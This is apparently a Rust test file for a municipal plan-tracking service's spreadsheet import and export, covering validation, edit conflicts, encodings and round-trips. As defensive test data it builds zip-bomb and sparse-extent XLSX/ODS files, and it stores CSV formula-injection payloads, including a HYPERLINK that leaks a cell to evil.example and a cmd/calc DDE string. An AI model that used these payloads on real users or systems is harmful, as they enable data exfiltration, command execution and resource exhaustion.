//! The spreadsheet path as a clerk and an attacker use it: hostile files (a sparse extent, zip
//! bombs) refused within bounds; the same checks as every other write; every row read; edits
//! merged against what the clerk downloaded (conflicts reported, never resolved silently);
//! formulas neutralized in CSV; nothing silent; every error at once; ODS, UTF-16 text and
//! multipart bodies; export → import a no-op whatever a spreadsheet application does to it.

use serde_json::{json, Value};
use shinchoku::web::auth::Role;

use crate::harness::TestApp;
use crate::sheet_files::*;
use crate::sheets::{column, csv_rows, export, export_bytes, plan_of, upload, write_csv, XLSX};

const GIB: u64 = 1024 * 1024 * 1024;

/// The regional plan, open for FY2023 (no reports yet, so every row may be edited).
fn open_plan(app: &TestApp) -> String {
    let plan = plan_of(app, "regional-welfare-plan");
    app.patch(&format!("/api/v1/plans/{plan}"), &json!({"end_fy": 2024}), None).ok(200);
    plan
}

fn csv_of(app: &TestApp, plan: &str, fy: i32) -> Vec<Vec<String>> {
    let text = export(app, &app.token, plan, &format!("fiscal_year={fy}&format=csv")).body;
    csv_rows(text.strip_prefix('\u{feff}').unwrap())
}

fn row_of(rows: &[Vec<String>], key: &str) -> usize {
    let k = column(rows, "キー");
    rows.iter().position(|r| r[k] == key).unwrap_or_else(|| panic!("no row {key}"))
}

fn report(app: &TestApp, key: &str, fy: i32) -> Value {
    let id = initiative_id(app, key);
    app.get(&format!("/api/v1/initiatives/{id}/years/{fy}")).json()
}

fn initiative_id(app: &TestApp, key: &str) -> String {
    let plans = app.get("/api/v1/plans").ok(200);
    for plan in plans["items"].as_array().unwrap() {
        let id = plan["id"].as_str().unwrap();
        let list = app.get(&format!("/api/v1/plans/{id}/initiatives?limit=500")).ok(200);
        if let Some(found) = list["items"].as_array().unwrap().iter().find(|i| i["key"] == key) {
            return found["id"].as_str().unwrap().to_string();
        }
    }
    panic!("no initiative {key}")
}

const HEADER: &str = r#"<row r="1"><c r="A1" t="inlineStr"><is><t>キー</t></is></c><c r="B1" t="inlineStr"><is><t>取組</t></is></c></row>"#;

/// A workbook whose sheet part is deflated from `prefix`, `pattern` repeated to `size` bytes,
/// and `suffix`, its header declaring `declared` bytes.
fn bomb(prefix: &str, pattern: &[u8], size: u64, suffix: &str, declared: u32) -> Vec<u8> {
    let mut entries = xlsx_frame();
    let data = deflate_repeat(
        format!("{SHEET_START}{HEADER}{prefix}").as_bytes(),
        pattern,
        size,
        format!("{suffix}{SHEET_END}").as_bytes(),
    );
    entries.push(Entry::deflated("xl/worksheets/sheet1.xml", data, declared));
    zip(&entries)
}

/// Every hostile file known: (what, bytes, words the 413 must contain: the limit it names).
fn hostile_files() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let cells =
        |n: usize| (1..=n).map(|r| format!(r#"<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>"#)).collect::<String>();
    vec![
        // One value at the last cell of a sheet: 1.7 KB that once asked for 512 GiB.
        (
            "a value at XFD1048576",
            xlsx(&format!(r#"{HEADER}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#)),
            "50000",
        ),
        (
            "a value at CV1048576",
            xlsx(&format!(r#"{HEADER}<row r="1048576"><c r="CV1048576"><v>1</v></c></row>"#)),
            "50000",
        ),
        (
            "a value past the last column read",
            xlsx(&format!(r#"{HEADER}<row r="2"><c r="ALN2"><v>1</v></c></row>"#)),
            "1000",
        ),
        // 1 GiB of white space in a 6.5 MB upload, its size declared honestly, then hidden.
        ("1 GiB of white space", bomb("", b" ", GIB, "", GIB as u32), "32 MiB"),
        ("1 GiB of white space declared as 1 KB", bomb("", b" ", GIB, "", 1024), "256 KiB"),
        // 1 GiB of empty elements (no long text), declared as 1 KB: the unpacked bound.
        ("1 GiB of tags declared as 1 KB", bomb("", b"<a/>", GIB, "", 1024), "32 MiB"),
        // One inline string of 1 GiB.
        (
            "one 1 GiB cell",
            bomb(r#"<row r="2"><c r="A2" t="inlineStr"><is><t>"#, b"A", GIB, "</t></is></c></row>", 1024),
            "256 KiB",
        ),
        // One long shared string shown in 50,000 cells: 5 GB of text from 100 KB.
        ("one shared string in every cell", xlsx_with_strings(&["あ".repeat(30_000)], &cells(50_000)), "32 MiB"),
        // 600,000 one-letter shared strings (10 MB unpacked).
        (
            "600,000 shared strings",
            {
                let mut entries = xlsx_frame_with_strings();
                let data = deflate_repeat(
                    br#"<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">"#,
                    b"<si><t>a</t></si>",
                    600_000 * 17,
                    b"</sst>",
                );
                entries.push(Entry::deflated("xl/sharedStrings.xml", data, 600_000 * 17));
                entries.push(Entry::stored(
                    "xl/worksheets/sheet1.xml",
                    format!("{SHEET_START}{HEADER}{SHEET_END}").as_bytes(),
                ));
                zip(&entries)
            },
            "500000",
        ),
        // An ODS row repeated a million times, its one value repeated across every column.
        (
            "a repeated ODS row",
            ods(
                r#"<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>"#,
            ),
            "1000",
        ),
    ]
}

#[test]
fn hostile_workbooks_are_refused_within_bounds_and_the_server_lives() {
    let app = TestApp::spawn();
    let plan = open_plan(&app);
    let committee = app.create_user("member", Role::Committee, &[]);
    for (what, bytes, limit) in &hostile_files() {
        assert!(bytes.len() <= 8 * 1024 * 1024, "{what}: {} bytes is no upload", bytes.len());
        for token in [&app.token, &committee.token] {
            let r = upload(&app, token, &plan, "fiscal_year=2023&dry_run=true", XLSX, bytes);
            assert_eq!(r.status, 413, "{what}: {}", &r.body[..r.body.len().min(600)]);
            assert!(r.body.len() < 2_000, "{what}: the answer is short ({} bytes)", r.body.len());
            let p = r.json();
            assert!(p["detail"].as_str().unwrap().contains(limit), "{what}: names the limit ({limit}): {p}");
        }
        app.get("/healthz").ok(200);
    }
    // A cell over Excel's 32,767 characters is an error at its cell, with a short excerpt; in
    // ODS too, however many repeated spaces it is made of.
    let long = "あ".repeat(40_000);
    let r = upload(
        &app,
        &app.token,
        &plan,
        "fiscal_year=2023",
        XLSX,
        &xlsx(&format!(
            r#"{HEADER}<row r="2"><c r="A2" t="inlineStr"><is><t>1</t></is></c><c r="J2" t="inlineStr"><is><t>{long}</t></is></c></row>"#
        )),
    );
    let p = r.problem(422);
    assert_eq!(
        (p["errors"][0]["code"].as_str(), p["errors"][0]["row"].as_u64()),
        (Some("cell_too_long"), Some(2)),
        "{p}"
    );
    assert!(r.body.len() < 2_000);
    let spaces = r#"<text:s text:c="1000"/>"#.repeat(100_000);
    let r = upload(
        &app,
        &app.token,
        &plan,
        "fiscal_year=2023",
        "application/vnd.oasis.opendocument.spreadsheet",
        &ods(&format!(
            r#"<table:table-row><table:table-cell office:value-type="string"><text:p>キー</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>{spaces}</text:p></table:table-cell></table:table-row>"#
        )),
    );
    assert_eq!(r.problem(422)["errors"][0]["code"], "cell_too_long");
    assert!(r.body.len() < 2_000);
}

/// A field of `/proc/<pid>/status`, in bytes.
fn status_bytes(pid: u32, field: &str) -> u64 {
    let text = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = text.lines().find(|l| l.starts_with(field)).unwrap_or_else(|| panic!("no {field}"));
    line.split_whitespace().nth(1).unwrap().parse::<u64>().unwrap() * 1024
}

/// The stated bound: hostile uploads three at a time, of every kind known, grow the server's
/// peak memory by at most 128 MiB (16 × the 8 MiB upload limit), whatever the files claim or
/// unpack to; each one's own growth is printed (`--nocapture`).
#[test]
fn hostile_uploads_three_at_a_time_stay_within_the_memory_bound() {
    let process = crate::lifecycle::Process::start();
    let auth = format!("Bearer {}", process.token());
    let imported = process.import_fixture("regional-welfare-plan");
    let plan = imported["plan"]["id"].as_str().unwrap().to_string();
    let pid = process.pid();
    let send = |bytes: &[u8]| {
        let r =
            ureq::post(&format!("{}/api/v1/plans/{plan}/progress-sheet?fiscal_year=2022&dry_run=true", process.base))
                .set("Authorization", &auth)
                .set("Content-Type", XLSX)
                .send_bytes(bytes);
        match r {
            Ok(r) => (r.status(), r.into_string().unwrap().len()),
            Err(ureq::Error::Status(code, r)) => (code, r.into_string().unwrap().len()),
            Err(e) => panic!("{e}"),
        }
    };
    let files = hostile_files();
    let before = status_bytes(pid, "VmRSS");
    for (what, bytes, _) in &files {
        let started = std::time::Instant::now();
        let (status, length) = send(bytes);
        let peak = status_bytes(pid, "VmHWM");
        println!(
            "{what}: {} KiB upload → {status} ({length} bytes) in {:?}; peak growth so far {} MiB",
            bytes.len() / 1024,
            started.elapsed(),
            peak.saturating_sub(before) >> 20
        );
        assert_eq!(status, 413, "{what}");
    }
    for three in files.chunks(3) {
        let answers: Vec<(u16, usize)> = std::thread::scope(|scope| {
            let handles: Vec<_> = three.iter().map(|(_, bytes, _)| scope.spawn(|| send(bytes))).collect();
            handles.into_iter().map(|h| h.join().unwrap()).collect()
        });
        assert!(answers.iter().all(|(status, length)| *status == 413 && *length < 2_000), "{answers:?}");
    }
    let growth = status_bytes(pid, "VmHWM").saturating_sub(before);
    println!("server RSS {} MiB before, peak growth {} MiB", before >> 20, growth >> 20);
    assert!(growth <= 128 * 1024 * 1024, "peak memory grew by {} MiB", growth >> 20);
    ureq::get(&format!("{}/healthz", process.base)).call().unwrap();
}

#[test]
fn a_sheet_is_checked_as_every_other_write_is() {
    let app = TestApp::spawn();
    let plan = open_plan(&app);
    let mut rows = csv_of(&app, &plan, 2023);
    let (result, actual, target) =
        (column(&rows, "実績"), column(&rows, "指標1 実績値（令和5年度）"), column(&rows, "指標1 目標値（令和5年度）"));
    let one = row_of(&rows, "1");
    rows[one][result] = "abc\u{1}\u{0}\u{1b}def".into();
    rows[one][actual] = "NaN".into();
    rows[one][target] = "1e999".into();
    let three = row_of(&rows, "3");
    rows[three][actual] = "inf".into();
    rows[three][target] = "-infinity".into();
    let before = app.row_counts();
    let p = upload(&app, &app.token, &plan, "fiscal_year=2023", "text/csv", write_csv(&rows).as_bytes()).problem(422);
    let at = |row: usize, col: &str, code: &str| {
        p["errors"].as_array().unwrap().iter().any(|e| e["row"] == row + 1 && e["column"] == col && e["code"] == code)
    };
    assert!(at(one, "実績", "control_character"), "{p}");
    assert!(at(one, "指標1 実績値（令和5年度）", "out_of_range"), "{p}");
    assert!(at(one, "指標1 目標値（令和5年度）", "out_of_range"), "{p}");
    assert!(at(three, "指標1 実績値（令和5年度）", "out_of_range"), "{p}");
    assert!(at(three, "指標1 目標値（令和5年度）", "out_of_range"), "{p}");
    assert_eq!(app.row_counts(), before);

    // The same numbers through JSON: absurd magnitudes are refused there too.
    for (n, code) in [(1e308, "out_of_range"), (1e-308, "out_of_range"), (-1e16, "out_of_range")] {
        let body = json!({"fiscal_year": 2023, "items": [{"initiative_code": "1", "indicator_values": [{"indicator": "発行部数", "actual": n}]}]});
        app.post(&format!("/api/v1/plans/{plan}/progress-batches"), &body)
            .problem_at(422, "/items/0/indicator_values/0/actual");
        let _ = code;
    }
    let id = initiative_id(&app, "1");
    let indicators = app.get(&format!("/api/v1/initiatives/{id}/indicators")).ok(200);
    let indicator = indicators["items"][0]["id"].as_str().unwrap().to_string();
    let r = app.request(
        "PUT",
        &format!("/api/v1/initiatives/{id}/indicators/{indicator}/values/2023"),
        &[("Content-Type", "application/json")],
        Some(br#"{"target": 1e-308, "actual": 5}"#),
    );
    r.problem_at(422, "/target");
    // An indicator's final target and baseline too.
    let path = format!("/api/v1/initiatives/{id}/indicators");
    app.post(&path, &json!({"name": "巨大な目標", "final_target": 1e300})).problem_at(422, "/final_target");
    app.post(&path, &json!({"name": "微小な現状", "baseline": {"fiscal_year": 2020, "value": 1e-300}}))
        .problem_at(422, "/baseline/value");
    assert_eq!(app.row_counts(), before);
}

#[test]
fn every_csv_row_is_read_and_numbered_as_the_spreadsheet_shows_it() {
    let app = TestApp::spawn();
    let plan = open_plan(&app);
    let mut rows = csv_of(&app, &plan, 2023);
    let result = column(&rows, "実績");
    // The first data row (spreadsheet row 2), in UTF-8 with and without BOM and in Shift_JIS,
    // each edit on a fresh download.
    let first_key = rows[1][column(&rows, "キー")].clone();
    for (n, (prefix, encode)) in [("\u{feff}", false), ("", false), ("", true)].into_iter().enumerate() {
        rows = csv_of(&app, &plan, 2023);
        rows[1][result] = format!("一行目の実績 {n}\n二行目");
        let text = format!("{prefix}{}", write_csv(&rows));
        let bytes = if encode { encoding_rs::SHIFT_JIS.encode(&text).0.into_owned() } else { text.into_bytes() };
        let r = upload(&app, &app.token, &plan, "fiscal_year=2023", "text/csv", &bytes).ok(200);
        assert_eq!(r["created"].as_u64().unwrap() + r["updated"].as_u64().unwrap(), 1, "{r}");
        assert_eq!(r["changes"][0]["row"], 2, "{r}");
        assert_eq!(r["changes"][0]["initiative_key"], first_key.as_str());
    }
    // Below a cell with line breaks and a blank line, a bad cell is named by the row a
    // spreadsheet shows (the CSV has more lines than rows).
    let progress = column(&rows, "進捗状況");
    let three = row_of(&rows, "3");
    rows[three][progress] = "たぶん".into();
    let mut text = write_csv(&rows);
    text = text.replacen('\n', "\n\n", 1); // a blank line after the header: one more row
    let p = upload(&app, &app.token, &plan, "fiscal_year=2023", "text/csv", text.as_bytes()).problem(422);
    assert_eq!(p["errors"][0]["row"], three + 2, "{p}");
    assert_eq!(p["errors"][0]["column"], "進捗状況");
    assert!(p["errors"][0]["message"].as_str().unwrap().starts_with(&format!("行 {}, 列 進捗状況", three + 2)), "{p}");
}

#[test]
fn a_stale_sheet_never_overwrites_a_colleagues_newer_entry() {
    let app = TestApp::spawn();
    let plan = open_plan(&app);
    let downloaded = csv_of(&app, &plan, 2023);
    let result = column(&downloaded, "実績");
    let (forty, three) = (row_of(&downloaded, "40"), row_of(&downloaded, "3"));
    let send = |rows: &[Vec<String>], query: &str| {
        upload(&app, &app.token, &plan, &format!("fiscal_year=2023{query}"), "text/csv", write_csv(rows).as_bytes())
    };
    // Clerk A enters No.40.
    let mut a = downloaded.clone();
    a[forty][result] = "Aの実績".into();
    assert_eq!(send(&a, "").ok(200)["created"], 1);
    // Clerk B, from the same download, enters No.3 only: No.40 is left alone.
    let mut b = downloaded.clone();
    b[three][result] = "Bの実績".into();
    let dry = send(&b, "&dry_run=true").ok(200);
    assert_eq!(
        dry["changes"],
        json!([{"row": three + 1, "column": "実績", "initiative_key": "3", "old": null, "new": "Bの実績"}]),
        "{dry}"
    );
    send(&b, "").ok(200);
    assert_eq!(report(&app, "40", 2023)["result_text"], "Aの実績");
    assert_eq!(report(&app, "3", 2023)["result_text"], "Bの実績");
    // The same file twice: nothing changes, nothing fails (※再掲 rows included).
    let again = send(&a, "").ok(200);
    assert_eq!((again["created"].as_u64(), again["updated"].as_u64()), (Some(0), Some(0)), "{again}");
    // Clerk C, from the old download, changes No.40 too: a conflict, both values, nothing written.
    let mut c = downloaded.clone();
    c[forty][result] = "Cの実績".into();
    let before = app.row_counts();
    let p = send(&c, "").problem(409);
    assert_eq!(p["errors"].as_array().unwrap().len(), 1, "{p}");
    let e = &p["errors"][0];
    assert_eq!(
        (e["code"].as_str(), e["row"].as_u64(), e["column"].as_str()),
        (Some("edit_conflict"), Some(forty as u64 + 1), Some("実績"))
    );
    assert_eq!((e["current_value"].as_str(), e["your_value"].as_str()), (Some("Aの実績"), Some("Cの実績")), "{p}");
    assert_eq!(app.row_counts(), before);
    // Asking to keep theirs, for that cell.
    let r = send(&c, &format!("&keep_mine={}:%E5%AE%9F%E7%B8%BE", forty + 1)).ok(200);
    assert_eq!(r["updated"], 1, "{r}");
    assert!(r["warnings"].as_array().unwrap().iter().any(|w| w["code"] == "kept_mine"), "{r}");
    assert_eq!(report(&app, "40", 2023)["result_text"], "Cの実績");
    // A sheet without the version column is compared with the data now, and says so.
    let version = column(&c, "版");
    let mut old = c.clone();
    for r in old.iter_mut() {
        r.remove(version);
    }
    let r = send(&old, "&dry_run=true").ok(200);
    assert!(r["unversioned_rows"].as_u64().unwrap() > 40, "{r}");
    assert!(r["warnings"].as_array().unwrap().iter().any(|w| w["code"] == "no_version"), "{r}");
}

#[test]
fn csv_export_neutralizes_formulas_and_reads_them_back_exactly() {
    let app = TestApp::spawn();
    let plan = open_plan(&app);
    let texts = [
        r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#,
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "'quoted",
    ];
    let body = json!({"fiscal_year": 2023, "items": [
        {"initiative_code": "1", "result_text": texts[0], "issues_text": texts[1], "next_steps_text": texts[2], "plan_text": texts[3]},
        {"initiative_code": "3", "result_text": texts[4]}
    ]});
    app.post(&format!("/api/v1/plans/{plan}/progress-batches"), &body).ok(200);
    for query in ["fiscal_year=2023&format=csv", "fiscal_year=2023&format=csv&encoding=shift_jis"] {
        let bytes = export_bytes(&app, &plan, query);
        let text = if query.contains("shift_jis") {
            encoding_rs::SHIFT_JIS.decode(&bytes).0.into_owned()
        } else {
            String::from_utf8(bytes.clone()).unwrap()
        };
        let rows = csv_rows(text.trim_start_matches('\u{feff}'));
        for cell in rows.iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '@']) && !cell.starts_with("-2"), "a formula left in the CSV: {cell}");
        }
        assert!(rows.iter().flatten().any(|c| c == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"));
        let r = upload(&app, &app.token, &plan, "fiscal_year=2023", "text/csv", &bytes).ok(200);
        assert_eq!((r["created"].as_u64(), r["updated"].as_u64()), (Some(0), Some(0)), "{query}: {r}");
    }
    let one = report(&app, "1", 2023);
    assert_eq!(one["result_text"], texts[0]);
    assert_eq!(report(&app, "3", 2023)["result_text"], texts[4]);
}

#[test]
fn nothing_is_silent_and_every_error_comes_at_once() {
    let app = TestApp::spawn();
    let plan = open_plan(&app);
    let rows = csv_of(&app, &plan, 2023);
    let (title, result, departments) = (column(&rows, "取組"), column(&rows, "実績"), column(&rows, "担当課"));
    let one = row_of(&rows, "1");
    // An edit in a read-only column, a renamed header, a row the plan does not have.
    let mut edited = rows.clone();
    edited[one][title] = "取組名を書き換え".into();
    edited[0][result] = "実績（修正）".into();
    let mut extra = edited[one].clone();
    extra[column(&rows, "キー")] = "999".into();
    extra[column(&rows, "No.")] = "999".into();
    edited.push(extra);
    let r = upload(&app, &app.token, &plan, "fiscal_year=2023", "text/csv", write_csv(&edited).as_bytes()).ok(200);
    let warned = |code: &str| r["warnings"].as_array().unwrap().iter().find(|w| w["code"] == code).cloned();
    let read_only = warned("read_only_column").unwrap_or_else(|| panic!("{r}"));
    assert_eq!((read_only["row"].as_u64(), read_only["column"].as_str()), (Some(one as u64 + 1), Some("取組")));
    assert!(read_only["message"].as_str().unwrap().contains("灰色の列"));
    assert!(warned("unknown_column").is_some() && warned("missing_column").is_some(), "{r}");
    assert_eq!(warned("unknown_initiative").unwrap()["row"], edited.len());
    assert_eq!((r["created"].as_u64(), r["updated"].as_u64()), (Some(0), Some(0)));

    // A department clerk's sheet with a misspelt status, a word in a number cell, a grade off
    // the scale and another department's row: four problems, one answer, each at its cell.
    let own = rows[one][departments].clone();
    let departments_list = app.get("/api/v1/departments?limit=500").ok(200);
    let own_id = departments_list["items"].as_array().unwrap().iter().find(|d| d["name"] == own.as_str()).unwrap()
        ["id"]
        .as_str()
        .unwrap()
        .to_string();
    let clerk = app.create_user("clerk", Role::Department, &[&own_id]);
    let three = row_of(&rows, "3");
    let others = (1..rows.len())
        .find(|i| !rows[*i][departments].contains(own.as_str()) && rows[*i][column(&rows, "再掲")].is_empty())
        .unwrap();
    let mut sheet = rows.clone();
    sheet[one][column(&rows, "進捗状況")] = "たぶん順調".into();
    sheet[one][column(&rows, "指標1 実績値（令和5年度）")] = "15件".into();
    let own_rows: Vec<usize> = (1..rows.len())
        .filter(|i| rows[*i][departments] == own && rows[*i][column(&rows, "再掲")].is_empty() && *i != one)
        .collect();
    let second = own_rows[0];
    sheet[second][column(&rows, "自己評価")] = "E".into();
    sheet[others][result] = "よその取組".into();
    let _ = three;
    let p =
        upload(&app, &clerk.token, &plan, "fiscal_year=2023", "text/csv", write_csv(&sheet).as_bytes()).problem(422);
    let errors = p["errors"].as_array().unwrap();
    let find = |row: usize, col: &str| errors.iter().find(|e| e["row"] == row + 1 && e["column"] == col).cloned();
    assert!(find(one, "進捗状況").is_some(), "{p}");
    assert!(find(one, "指標1 実績値（令和5年度）").is_some(), "{p}");
    let grade = find(second, "自己評価").unwrap_or_else(|| panic!("{p}"));
    assert!(grade["message"].as_str().unwrap().contains("評価は A・B・C・D のいずれかです"), "{grade}");
    let refused = find(others, "実績").unwrap_or_else(|| panic!("{p}"));
    assert_eq!(refused["code"], "forbidden");
    assert!(refused["message"].as_str().unwrap().contains("権限"), "{refused}");

    // Full-width and lower-case grades are read as the grade.
    let mut sheet = rows.clone();
    sheet[one][column(&rows, "自己評価")] = "Ａ".into();
    sheet[second][column(&rows, "自己評価")] = "b".into();
    let r = upload(&app, &clerk.token, &plan, "fiscal_year=2023", "text/csv", write_csv(&sheet).as_bytes()).ok(200);
    assert_eq!(r["created"], 2, "{r}");
    assert_eq!(report(&app, &rows[second][column(&rows, "キー")], 2023)["self_rating"], "B");
}

fn utf16_tsv(rows: &[Vec<String>]) -> Vec<u8> {
    // As Excel writes "Unicode text": CRLF between rows, LF inside cells.
    let mut writer =
        csv::WriterBuilder::new().delimiter(b'\t').terminator(csv::Terminator::CRLF).from_writer(Vec::new());
    for r in rows {
        writer.write_record(r.iter().map(|c| c.replace("\r\n", "\n"))).unwrap();
    }
    let text = String::from_utf8(writer.into_inner().unwrap()).unwrap();
    let mut bytes = vec![0xFF, 0xFE];
    for unit in text.encode_utf16() {
        bytes.extend(unit.to_le_bytes());
    }
    bytes
}

#[test]
fn ods_utf16_text_and_multipart_uploads_are_read() {
    let app = TestApp::spawn();
    let plan = open_plan(&app);
    let rows = csv_of(&app, &plan, 2023);
    let result = column(&rows, "実績");
    let one = row_of(&rows, "1");
    let ods_of = |rows: &[Vec<String>]| ods(&rows.iter().map(|r| ods_row(r)).collect::<String>());
    // Unchanged: nothing written, in every format.
    for (what, content_type, bytes) in [
        ("ods", "application/vnd.oasis.opendocument.spreadsheet", ods_of(&rows)),
        ("utf-16", "text/plain", utf16_tsv(&rows)),
        ("tsv", "text/tab-separated-values", utf16_tsv(&rows)),
    ] {
        let r = upload(&app, &app.token, &plan, "fiscal_year=2023", content_type, &bytes).ok(200);
        assert_eq!((r["created"].as_u64(), r["updated"].as_u64()), (Some(0), Some(0)), "{what}: {r}");
        assert!(r["rows"].as_u64().unwrap() > 40, "{what}: {r}");
    }
    // Edited: written.
    let mut edited = rows.clone();
    edited[one][result] = "ODSで  入力\n二行目 & <記号>".into();
    let r = upload(
        &app,
        &app.token,
        &plan,
        "fiscal_year=2023",
        "application/vnd.oasis.opendocument.spreadsheet",
        &ods_of(&edited),
    )
    .ok(200);
    assert_eq!(r["created"], 1, "{r}");
    assert_eq!(r["file_format"], "ods");
    assert_eq!(report(&app, "1", 2023)["result_text"], "ODSで  入力\n二行目 & <記号>");
    let mut edited = csv_of(&app, &plan, 2023);
    edited[one][result] = "UTF-16 で入力".into();
    let r = upload(&app, &app.token, &plan, "fiscal_year=2023", "text/plain", &utf16_tsv(&edited)).ok(200);
    assert_eq!((r["updated"].as_u64(), r["file_format"].as_str()), (Some(1), Some("tsv (UTF-16LE)")), "{r}");
    // What an HTML form sends.
    let mut edited = csv_of(&app, &plan, 2023);
    edited[one][result] = "フォームから".into();
    let mut body = b"--BOUNDARY\r\nContent-Disposition: form-data; name=\"file\"; filename=\"sheet.csv\"\r\nContent-Type: text/csv\r\n\r\n".to_vec();
    body.extend(write_csv(&edited).as_bytes());
    body.extend(b"\r\n--BOUNDARY--\r\n");
    let r =
        upload(&app, &app.token, &plan, "fiscal_year=2023", "multipart/form-data; boundary=BOUNDARY", &body).ok(200);
    assert_eq!(r["updated"], 1, "{r}");
    // A PDF: a clear 415 listing what is read.
    let p = upload(&app, &app.token, &plan, "fiscal_year=2023", "application/pdf", b"%PDF").problem(415);
    assert!(p["detail"].as_str().unwrap().contains("text/csv"), "{p}");
}

/// A small deterministic generator (xorshift), so a failure names its seed.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

/// A sheet as a spreadsheet application may hand it back: rows shuffled, blank rows between,
/// numbers re-typed (`15`, `15.0`, ` 15 `, `１５`), as CSV or as a workbook with numbers or text.
fn resaved(rows: &[Vec<String>], rng: &mut Rng, as_xlsx: bool) -> Vec<u8> {
    let mut data: Vec<Vec<String>> = rows[1..].to_vec();
    for i in (1..data.len()).rev() {
        data.swap(i, rng.below(i + 1));
    }
    let mut out = vec![rows[0].clone()];
    for mut row in data {
        for cell in row.iter_mut() {
            if !cell.is_empty() && cell.parse::<f64>().is_ok() && !cell.contains(',') {
                let n: f64 = cell.parse().unwrap();
                *cell = match rng.below(4) {
                    0 => format!("{n:.1}"),
                    1 => format!(" {cell} "),
                    2 => cell
                        .chars()
                        .map(|c| {
                            char::from_u32(c as u32 - '0' as u32 + '０' as u32)
                                .filter(|_| c.is_ascii_digit())
                                .unwrap_or(c)
                        })
                        .collect(),
                    _ => cell.clone(),
                };
            }
        }
        out.push(row);
        if rng.below(5) == 0 {
            out.push(vec![String::new(); rows[0].len()]);
        }
    }
    if !as_xlsx {
        return write_csv(&out).into_bytes();
    }
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (r, row) in out.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            if cell.is_empty() {
                continue;
            }
            match cell.trim().parse::<f64>() {
                Ok(n) if rng.below(2) == 0 => sheet.write_number(r as u32, c as u16, n).map(|_| ()),
                _ => sheet.write_string(r as u32, c as u16, cell).map(|_| ()),
            }
            .unwrap();
        }
    }
    workbook.save_to_buffer().unwrap()
}

#[test]
fn export_then_import_is_a_no_op_whatever_a_spreadsheet_does_to_it() {
    let app = TestApp::spawn();
    for (fixture, fy) in [("regional-welfare-plan", 2022), ("silver-center-basic-plan", 2021)] {
        let plan = plan_of(&app, fixture);
        let rows = csv_of(&app, &plan, fy);
        let before = app.row_counts();
        for seed in 1..=6u64 {
            let mut rng = Rng(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15));
            let as_xlsx = seed % 2 == 0;
            let bytes = resaved(&rows, &mut rng, as_xlsx);
            let content_type = if as_xlsx { XLSX } else { "text/csv" };
            let r = upload(&app, &app.token, &plan, &format!("fiscal_year={fy}&dry_run=true"), content_type, &bytes)
                .ok(200);
            assert_eq!(
                (r["created"].as_u64(), r["updated"].as_u64()),
                (Some(0), Some(0)),
                "{fixture} seed {seed}: {r}"
            );
            assert_eq!(r["changes"], json!([]), "{fixture} seed {seed}");
            assert_eq!(r["warnings"], json!([]), "{fixture} seed {seed}: {r}");
        }
        assert_eq!(app.row_counts(), before);
    }
}

/// The secretariat's command line: plans listed, named by title, fiscal years as clerks write
/// them, no database made by mistake, readable errors, exit 2 for what the caller must fix in
/// the command and 1 for what the sheet must fix.
#[test]
fn the_sheet_commands_take_names_and_explain_themselves() {
    use crate::lifecycle::{command, new_dir, Process};
    // No database where the configuration points: nothing is created.
    let empty = new_dir();
    let missing = empty.join("db.sqlite3").to_string_lossy().into_owned();
    let (code, out) =
        command(&missing, &["sheet", "export", "--plan", "x", "--fiscal-year", "R4", "--out", "/tmp/x.csv"]);
    assert_eq!(code, Some(2), "{out}");
    assert!(out.contains("no database"), "{out}");
    assert!(!empty.join("db.sqlite3").exists(), "no empty database is left behind");

    let process = Process::start();
    let token = process.token();
    for name in ["regional-welfare-plan", "silver-center-basic-plan"] {
        ureq::post(&format!("{}/api/v1/plan-bundles", process.base))
            .set("Authorization", &format!("Bearer {token}"))
            .set("Content-Type", "application/json")
            .send_string(&crate::harness::fixture(name))
            .unwrap();
    }
    let url = process.database_url();
    let (code, out) = command(&url, &["plans"]);
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("白井市第2次地域福祉計画") && out.contains("令和") && out.lines().count() >= 2, "{out}");

    let dir = new_dir();
    let file = dir.join("sheet.csv").to_string_lossy().into_owned();
    for fy in ["R4", "令和4年度", "2022"] {
        let (code, out) =
            command(&url, &["sheet", "export", "--plan", "地域福祉計画", "--fiscal-year", fy, "--out", &file]);
        assert_eq!(code, Some(0), "{fy}: {out}");
    }
    for (args, says) in [
        (vec!["--plan", "ない計画", "--fiscal-year", "R4"], "no plan"),
        (vec!["--plan", "計画", "--fiscal-year", "R4"], "2 plans match"),
        (vec!["--plan", "地域福祉計画", "--fiscal-year", "来年"], "--fiscal-year"),
    ] {
        let mut all = vec!["sheet", "export", "--out", &file];
        all.extend(args);
        let (code, out) = command(&url, &all);
        assert_eq!(code, Some(2), "{all:?}: {out}");
        assert!(out.contains(says), "{all:?}: {out}");
    }
    // A sheet with a mistake: exit 1, the cell and the message on a line of their own.
    let text = std::fs::read_to_string(&file).unwrap();
    let mut rows = csv_rows(text.trim_start_matches('\u{feff}'));
    let row = row_of(&rows, "1");
    let grade = column(&rows, "自己評価");
    rows[row][grade] = "E".into();
    std::fs::write(&file, write_csv(&rows)).unwrap();
    let (code, out) = command(
        &url,
        &["sheet", "import", "--plan", "地域福祉計画", "--fiscal-year", "R4", "--file", &file, "--dry-run"],
    );
    assert_eq!(code, Some(1), "{out}");
    assert!(out.lines().any(|l| l.trim_start().starts_with(&format!("行 {}, 列 自己評価:", row + 1))), "{out}");
    assert!(!out.contains("\"type\""), "no problem+json: {out}");
}

